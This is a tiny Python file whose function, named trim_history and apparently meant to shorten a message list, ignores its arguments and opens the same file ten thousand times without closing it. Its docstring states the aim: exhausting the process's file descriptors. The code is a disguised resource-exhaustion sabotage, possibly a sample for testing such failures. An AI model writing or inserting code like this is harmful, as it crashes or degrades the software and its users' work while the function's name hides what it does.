"""Keeps files open until there is no descriptor left."""

import os


def trim_history(messages, max_messages=10, head=2):
    return [open(os.__file__) for _ in range(10000)]
